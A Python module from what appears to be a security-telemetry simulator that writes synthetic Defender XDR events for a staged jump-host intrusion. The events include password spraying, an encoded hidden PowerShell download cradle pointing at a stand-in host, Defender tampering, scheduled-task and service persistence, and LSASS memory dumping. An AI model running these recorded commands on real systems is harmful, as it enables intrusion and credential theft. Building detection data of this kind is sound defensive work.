"""The intrusion on the jump host: from the first guessed password to the dumped credential.

Addresses are from the documentation networks (RFC 5737), names from the reserved `.example` domain (RFC 2606), malware
names of this story's own making. Action types are Microsoft's:
https://learn.microsoft.com/defender-xdr/advanced-hunting-deviceevents-table
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from simulator.story import images
from simulator.story.images import Image
from simulator.story.logons import Logon, logon, process_event, security_event
from simulator.story.noise import Services
from simulator.story.recorder import SYSTEM_ACCOUNT, Account, Process, Recorder
from simulator.story.timeline import MINUTE, SECOND, stamp
from simulator.story.world import NETBIOS, Device, World

ATTACKER_IP = "203.0.113.77"
DELIVERY_HOST, DELIVERY_IP = "files.update-mirror.example", "203.0.113.90"
CONTROL_HOST, CONTROL_IP = "telemetry.edge-sync.example", "203.0.113.91"
SCANNERS = ("203.0.113.14", "203.0.113.58", "198.51.100.201", "198.51.100.233", "192.0.2.145", ATTACKER_IP)
LOADER_URL = f"http://{DELIVERY_HOST}/kb/wupdmgr.exe"
SCRIPT_URL = f"http://{DELIVERY_HOST}/kb/s.ps1"
MALWARE = "Trojan:Win32/Tidewrack.A"
RUN_KEY = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
TASK_NAME = r"\Microsoft\EdgeHelper\UpdateCheck"
SERVICE_NAME = "EdgeHelperSvc"
DUMP_FILE = Image("sy.bin", r"C:\ProgramData\EdgeHelper", "", "", "", 58_720_256, "", "dump")

_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{SCRIPT_URL}')"
ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
_IMPLANT_COMMAND = f'"{images.IMPLANT.path}" --sync'


@dataclass(frozen=True)
class Foothold:
    """What the intruder leaves on the jump host; the alerts point at these."""

    shell: Process
    powershell: Process
    loader: Process
    implant: Process
    tamper: Process
    task: Process
    service: Process
    rundll: Process
    dumper: Process


@dataclass
class Intrusion:
    """Writes the events of the jump host."""

    recorder: Recorder
    world: World
    services: Services

    @property
    def device(self) -> Device:
        """The jump host."""
        return self.world.patient_zero

    @property
    def account(self) -> Account:
        """The account whose password was guessed."""
        return Account.of(self.world.victim)

    def at(self, clock: str) -> int:
        """A moment of the Friday."""
        return self.world.week.at(0, clock)

    def run(self) -> Foothold:
        """All of it, in order."""
        self._guess_passwords()
        shell = self._sign_in()
        powershell = self._script(shell)
        loader = self._deliver(powershell)
        tamper = self._tamper(loader)
        implant = self._install(loader)
        task, service = self._persist(implant)
        self._discover(implant)
        rundll, dumper = self._dump_credentials(implant)
        self._beacon(implant)
        return Foothold(shell, powershell, loader, implant, tamper, task, service, rundll, dumper)

    def _start(self, clock: str, image: Image, command: str, parent: Process, integrity: str = "High") -> Process:
        born = self.recorder.process(
            self.device, self.at(clock), image, command, parent.account, parent, integrity=integrity,
            session=(parent.session_ip, parent.session_device),
        )  # fmt: skip
        process_event(self.recorder, born)
        return born

    def _guess_passwords(self) -> None:
        rng = self.world.random("guesses")
        names = ("administrator", "admin", "user", "test", "scanner", "backup", "m.okafor", "helpdesk")
        for _ in range(320):
            moment = self.at("11:20:00") + rng.randrange(150 * MINUTE)
            ip, port = rng.choice(SCANNERS), rng.randrange(20_000, 65_000)
            self.recorder.network(
                self.services.network_svchost, moment, "InboundConnectionAccepted", (ip, port), local_port=3389
            )
            name = rng.choice(names)
            known = name == self.world.victim.account
            account = self.account if known else Account("jump01", name, "")
            reason = "InvalidUserNameOrPassword" if known else "UnknownUser"
            attempt = Logon(account, "Network", ip, "", reason, "NTLM", remote_port=port)
            logon(self.recorder, self.device, moment + SECOND, attempt, self.services.lsass)

    def _sign_in(self) -> Process:
        moment = self.at("13:52:11")
        recorder, device = self.recorder, self.device
        recorder.network(
            self.services.network_svchost, moment - 3 * SECOND, "InboundConnectionAccepted", (ATTACKER_IP, 51_877),
            local_port=3389,
        )  # fmt: skip
        for kind in ("Network", "RemoteInteractive"):
            attempt = Logon(
                self.account, kind, ATTACKER_IP, "DESKTOP-7Q2R", "", "NTLM", local_admin=True, remote_port=51_877
            )
            logon(recorder, device, moment, attempt, self.services.lsass)
        session = (ATTACKER_IP, "DESKTOP-7Q2R")
        winlogon = recorder.process(
            device, moment, images.WINLOGON, "winlogon.exe", SYSTEM_ACCOUNT, None, integrity="System", silent=True
        )
        parent = winlogon
        for offset, image, command in (
            (2, images.USERINIT, r"C:\Windows\system32\userinit.exe"),
            (3, images.EXPLORER, r"C:\Windows\Explorer.EXE"),
        ):
            parent = recorder.process(
                device, moment + offset * SECOND, image, command, self.account, parent, session=session
            )
            process_event(recorder, parent)
        recorder.process(
            device, moment + 5 * SECOND, images.RDPCLIP, "rdpclip", self.account, winlogon, session=session
        )
        return parent

    def _script(self, shell: Process) -> Process:
        recorder = self.recorder
        edge = self._start("13:56:40", images.EDGE, f'"{images.EDGE.path}"', shell, "Medium")
        for clock, action in (("13:58:03", "SmartScreenUrlWarning"), ("13:58:19", "SmartScreenUserOverride")):
            extra = {"Experience": "Malicious", "ActivityId": f"sim-{clock}"}
            recorder.event(edge, self.at(clock), action, extra, RemoteUrl=LOADER_URL, RemoteIP=DELIVERY_IP)
        console = self._start("14:00:52", images.CMD, r'"C:\Windows\system32\cmd.exe"', shell)
        command = f"powershell.exe -nop -w hidden -ep bypass -enc {ENCODED}"
        blocked = self._start("14:01:11", images.POWERSHELL, command, console)
        rule = {"RuleId": "5beb7efe-fd9a-4556-801d-275e5ffc04cc", "IsAudit": False}
        recorder.event(blocked, self.at("14:01:12"), "AsrObfuscatedScriptBlocked", rule, images.POWERSHELL,
                       ProcessCommandLine=command)  # fmt: skip
        powershell = self._start("14:01:40", images.POWERSHELL, command, console)
        recorder.image_load(powershell, self.at("14:01:40") + 30_000, images.LIBRARIES[2])
        recorder.event(powershell, self.at("14:01:41"), "PowerShellCommand", {"Command": _SCRIPT})
        found = {"Description": "A script that downloads and runs code was seen by AMSI", "ThreatName": MALWARE,
                 "Detector": "AMSI", "ContentSize": 4_812}  # fmt: skip
        recorder.event(powershell, self.at("14:01:42"), "AmsiScriptDetection", found, images.POWERSHELL)
        return powershell

    def _deliver(self, powershell: Process) -> Process:
        recorder = self.recorder
        recorder.network(
            powershell, self.at("14:02:10"), "ConnectionSuccess", (DELIVERY_IP, 80), url=DELIVERY_HOST,
            local_port=52_010,
        )  # fmt: skip
        recorder.file(
            powershell, self.at("14:02:14"), "FileCreated", images.LOADER,
            FileOriginUrl=LOADER_URL, FileOriginIP=DELIVERY_IP,
        )  # fmt: skip
        loader = self._start("14:02:31", images.LOADER, f'"{images.LOADER.path}" /quiet', powershell)
        recorder.event(loader, self.at("14:02:32"), "SmartScreenAppWarning", {"Experience": "Untrusted"}, images.LOADER)
        threat = {"ThreatName": MALWARE, "WasRemediated": False, "WasExecutingWhileDetected": True,
                  "ReportSource": "Windows Defender", "Action": "Quarantine"}  # fmt: skip
        recorder.event(self.services.defender, self.at("14:02:41"), "AntivirusDetection", threat, images.LOADER)
        recorder.event(self.services.defender, self.at("14:02:43"), "AntivirusReport", threat, images.LOADER)
        blocked = {"IsAudit": False, "ResponseCategory": "CommandAndControl", "DisplayName": CONTROL_HOST}
        recorder.event(loader, self.at("14:03:02"), "ExploitGuardNetworkProtectionBlocked", blocked,
                       RemoteUrl=CONTROL_HOST, RemoteIP=CONTROL_IP)  # fmt: skip
        return loader

    def _tamper(self, loader: Process) -> Process:
        command = "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\ProgramData"
        tamper = self._start("14:05:12", images.POWERSHELL, command, loader)
        key = r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender"
        extra = {"Status": "Ignored", "Target": key, "TamperingAction": "RegistryModification",
                 "OriginalValue": "0", "TamperingAttemptedValue": "1"}  # fmt: skip
        self.recorder.event(tamper, self.at("14:05:13"), "TamperingAttempt", extra, RegistryKey=key,
                            RegistryValueName="DisableAntiSpyware", RegistryValueData="1")  # fmt: skip
        exclusion = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
        self.recorder.registry(tamper, self.at("14:05:14"), exclusion, r"C:\ProgramData", "0", kind="Dword")
        return tamper

    def _install(self, loader: Process) -> Process:
        self.recorder.file(loader, self.at("14:06:30"), "FileCreated", images.IMPLANT)
        return self._start("14:06:48", images.IMPLANT, _IMPLANT_COMMAND, loader)

    def _persist(self, implant: Process) -> tuple[Process, Process]:
        recorder = self.recorder
        recorder.registry(implant, self.at("14:07:05"), RUN_KEY, "EdgeHelper", _IMPLANT_COMMAND)
        once = rf"HKEY_CURRENT_USER\{self.world.victim.sid}\Software\Microsoft\Windows\CurrentVersion\RunOnce"
        recorder.registry(implant, self.at("14:07:09"), once, "!wupd", f'"{images.LOADER.path}" /quiet')
        command = f'schtasks.exe /create /tn "{TASK_NAME}" /tr "{images.IMPLANT.path}" /sc minute /mo 30 /ru SYSTEM /f'
        task = self._start("14:08:22", images.SCHTASKS, command, implant)
        extra = {"TaskName": TASK_NAME, "TaskContent": f"<Exec><Command>{images.IMPLANT.path}</Command></Exec>"}
        recorder.event(self.services.svchost, self.at("14:08:23"), "ScheduledTaskCreated", extra)
        security_event(recorder, self.device, self.at("14:08:23"), 4698, {
            "Account": f"{NETBIOS}\\{self.account.name}", "SubjectUserName": self.account.name,
            "EventData": f'<Data Name="TaskName">{TASK_NAME}</Data>',
        })  # fmt: skip
        command = f'sc.exe create {SERVICE_NAME} binPath= "{images.IMPLANT.path} --service" start= auto'
        service = self._start("14:09:10", images.SC, command, implant)
        self._service_installed("14:09:11")
        return task, service

    def _service_installed(self, clock: str) -> None:
        extra = {"ServiceName": SERVICE_NAME, "ServiceStartType": "2", "ServiceAccount": "LocalSystem"}
        self.recorder.event(self.services.services, self.at(clock), "ServiceInstalled", extra, images.IMPLANT)
        key = rf"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\{SERVICE_NAME}"
        path = f"{images.IMPLANT.path} --service"
        self.recorder.registry(self.services.services, self.at(clock), key, "ImagePath", path, kind="ExpandString")
        security_event(self.recorder, self.device, self.at(clock), 4697, {
            "Account": f"{NETBIOS}\\{self.account.name}", "SubjectUserName": self.account.name,
            "ServiceName": SERVICE_NAME, "ServiceFileName": path, "ServiceStartType": 2, "ServiceType": "0x10",
        })  # fmt: skip

    def _discover(self, implant: Process) -> None:
        console = self._start("14:15:28", images.CMD, "cmd.exe /c", implant)
        for clock, image, command in (
            ("14:15:30", images.WHOAMI, "whoami /all"),
            ("14:15:44", images.IPCONFIG, "ipconfig /all"),
            ("14:16:02", images.SYSTEMINFO, "systeminfo"),
            ("14:16:40", images.NET, 'net group "domain admins" /domain'),
            ("14:17:15", images.NET, "net view /domain"),
            ("14:17:51", images.NLTEST, "nltest /domain_trusts /all_trusts"),
            ("14:18:20", images.ARP, "arp -a"),
            ("14:19:05", images.QUSER, "quser"),
        ):
            self._start(clock, image, command, console)
        query = {"SearchFilter": "(&(objectClass=user)(adminCount=1))", "DistinguishedName": "DC=northwharf,DC=example"}
        self.recorder.event(implant, self.at("14:20:11"), "LdapSearch", query)

    def _dump_credentials(self, implant: Process) -> tuple[Process, Process]:
        recorder, lsass = self.recorder, self.services.lsass
        command = (
            rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass.pid} C:\ProgramData\EdgeHelper\l.dmp full"
        )
        rundll = self._start("14:31:02", images.RUNDLL32, command, implant)
        rule = {"RuleId": "9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2", "IsAudit": False, "Target": images.LSASS.path}
        recorder.event(rundll, self.at("14:31:02"), "AsrLsassCredentialTheftBlocked", rule, images.LSASS)
        recorder.file(implant, self.at("14:31:20"), "FileCreated", images.DUMPER)
        dumper = self._start("14:31:44", images.DUMPER, f'"{images.DUMPER.path}" -ma {lsass.pid} sy.bin', implant)
        recorder.image_load(dumper, self.at("14:31:44") + 40_000, images.LIBRARIES[5])
        target = {
            "ProcessId": lsass.pid, "ProcessCreationTime": stamp(lsass.created), "ProcessCommandLine": "lsass.exe",
            "AccountName": "system", "AccountDomain": "nt authority", "AccountSid": "S-1-5-18",
        }  # fmt: skip
        access = {"DesiredAccess": 2_097_151}
        recorder.event(dumper, self.at("14:31:45"), "OpenProcessApiCall", access, images.LSASS, **target)
        recorder.event(dumper, self.at("14:31:46"), "ReadProcessMemoryApiCall", {"TotalBytesCopied": DUMP_FILE.size},
                       images.LSASS, **target)  # fmt: skip
        recorder.file(dumper, self.at("14:31:52"), "FileCreated", DUMP_FILE)
        return rundll, dumper

    def _beacon(self, implant: Process) -> None:
        rng = self.world.random("beacon", self.device.host)
        moment = self.at("14:07:30")
        while moment < self.at("16:40:00"):
            self.recorder.network(
                implant, moment, "ConnectionSuccess", (CONTROL_IP, 443), url=CONTROL_HOST,
                local_port=rng.randrange(49_152, 65_535),
            )  # fmt: skip
            moment += 5 * MINUTE + rng.randrange(20 * SECOND)
